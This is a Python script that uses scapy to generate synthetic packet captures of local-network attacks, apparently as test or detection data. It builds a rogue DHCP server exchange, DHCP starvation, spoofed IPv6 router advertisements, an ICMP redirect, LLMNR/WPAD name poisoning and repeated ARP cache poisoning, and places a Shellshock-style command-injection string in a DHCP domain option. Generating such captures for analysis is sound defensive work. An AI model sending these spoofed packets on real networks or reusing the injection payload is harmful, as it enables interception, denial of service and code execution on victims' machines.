"""The local segment under attack: rogue servers, starvation, redirects, poisoned names and ARP caches."""

from scapy.layers.dhcp import BOOTP, DHCP
from scapy.layers.dhcp6 import DUID_LL, DHCP6_Advertise, DHCP6OptClientId, DHCP6OptServerId
from scapy.layers.dns import DNSQR, DNSRR
from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.inet6 import ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, IPv6
from scapy.layers.l2 import ARP, Ether
from scapy.layers.llmnr import LLMNRQuery, LLMNRResponse

from pcaps.talk import ATTACKER, BROADCAST, DB01, GATEWAY, WEB03, WS21, WS22, Guest, Wire, guest


def dhcp(wire: Wire, kind: str, server: Guest, client_mac: str, number: int, *options: tuple[str, object]) -> None:
    """A message between a client without address and a server."""
    ask = kind in {"discover", "request"}
    hardware = bytes.fromhex(client_mac.replace(":", ""))
    boot = BOOTP(op=1 if ask else 2, xid=0x4D000000 + number, flags=0x8000, chaddr=hardware,
                 yiaddr="0.0.0.0" if ask or kind == "nak" else f"10.20.0.{100 + number % 100}")  # fmt: skip
    fields = [("message-type", kind), *([] if ask else [("server_id", server.ip)]), *options, "end"]
    link = Ether(src=client_mac if ask else server.mac, dst=BROADCAST)
    ends = IP(src="0.0.0.0" if ask else server.ip, dst="255.255.255.255", id=wire.ident(server.ip), ttl=64)
    ports = UDP(sport=68 if ask else 67, dport=67 if ask else 68)
    wire.put(link / ends / ports / boot / DHCP(options=fields))


def rogue_server(wire: Wire) -> None:
    """Two servers offer; the second is a guest and names itself as router and resolver."""
    dhcp(wire, "discover", GATEWAY, WS22.mac, 1, ("hostname", b"ws-22"))
    dhcp(wire, "offer", GATEWAY, WS22.mac, 1, ("lease_time", 86400), ("router", GATEWAY.ip))
    dhcp(
        wire, "offer", ATTACKER, WS22.mac, 1, ("lease_time", 600), ("router", ATTACKER.ip), ("name_server", ATTACKER.ip)
    )
    dhcp(wire, "request", GATEWAY, WS22.mac, 1, ("server_id", ATTACKER.ip))
    payload = b"() { :; }; /usr/bin/id > /tmp/x"
    dhcp(wire, "ack", ATTACKER, WS22.mac, 1, ("lease_time", 600), ("domain", payload))
    dhcp(wire, "discover", GATEWAY, ATTACKER.mac, 2, ("hostname", b"kali"))


def refusals(wire: Wire) -> None:
    for n in range(6):
        dhcp(wire, "nak", ATTACKER, WS21.mac, 10 + n)
        wire.wait(1.0)


def starvation(wire: Wire) -> None:
    for n in range(160):
        dhcp(wire, "discover", GATEWAY, "02:" + ":".join(f"{b:02x}" for b in wire.rng.randbytes(5)), 100 + n)
        wire.wait(0.02)


def version6(wire: Wire) -> None:
    link = Ether(src=ATTACKER.mac, dst=WS21.mac)
    ends = IPv6(src="fe80::66", dst="fe80::21", hlim=255)
    identity = DHCP6OptServerId(duid=DUID_LL(lladdr=ATTACKER.mac)) / DHCP6OptClientId(duid=DUID_LL(lladdr=WS21.mac))
    wire.put(link / ends / UDP(sport=547, dport=546) / DHCP6_Advertise(trid=0x1A2B3C) / identity)
    everyone = Ether(src=ATTACKER.mac, dst="33:33:00:00:00:01") / IPv6(src="fe80::66", dst="ff02::1", hlim=255)
    advert = ICMPv6ND_RA(chlim=64, routerlifetime=1800) / ICMPv6NDOptPrefixInfo(prefix="fd00:66::", prefixlen=64)
    wire.put(everyone / advert)


def redirect(wire: Wire) -> None:
    victim = IP(src=WEB03.ip, dst="192.0.2.1", id=9, ttl=63) / TCP(sport=40000, dport=443, seq=1, flags="S")
    wire.put(wire.network(ATTACKER, WEB03) / ICMP(type=5, code=1, gw=ATTACKER.ip) / victim)


def poisoned_name(wire: Wire) -> None:
    question = DNSQR(qname="wpad")
    ask = LLMNRQuery(id=0x5050, qd=question)
    group = Ether(src=WS21.mac, dst="01:00:5e:00:00:fc") / IP(src=WS21.ip, dst="224.0.0.252", id=3, ttl=1)
    wire.put(group / UDP(sport=55555, dport=5355) / ask)
    answer = LLMNRResponse(id=0x5050, qr=1, qd=question, an=DNSRR(rrname="wpad", ttl=30, rdata=ATTACKER.ip))
    wire.put(wire.network(ATTACKER, WS21) / UDP(sport=5355, dport=55555) / answer)


def arp(wire: Wire) -> None:
    """A sweep of the bridge, then two guests are told again and again that the attacker is the other one."""
    for n in range(1, 161):
        ask = ARP(op=1, hwsrc=ATTACKER.mac, psrc=ATTACKER.ip, hwdst="00:00:00:00:00:00", pdst=guest("x", n).ip)
        wire.put(Ether(src=ATTACKER.mac, dst=BROADCAST) / ask, 0.02)
    wire.wait(15)
    for n in range(64):
        victim, claimed = (DB01, WEB03) if n % 2 else (WEB03, DB01)
        lie = ARP(op=2, hwsrc=ATTACKER.mac, psrc=claimed.ip, hwdst=victim.mac, pdst=victim.ip)
        wire.put(Ether(src=ATTACKER.mac, dst=victim.mac) / lie, 0.2)


def captures() -> dict[str, Wire]:
    wire = Wire(seed=10)
    for part in (rogue_server, refusals, starvation, version6, redirect, poisoned_name, arp):
        part(wire)
        wire.wait(12)
    return {"dhcp_arp": wire}
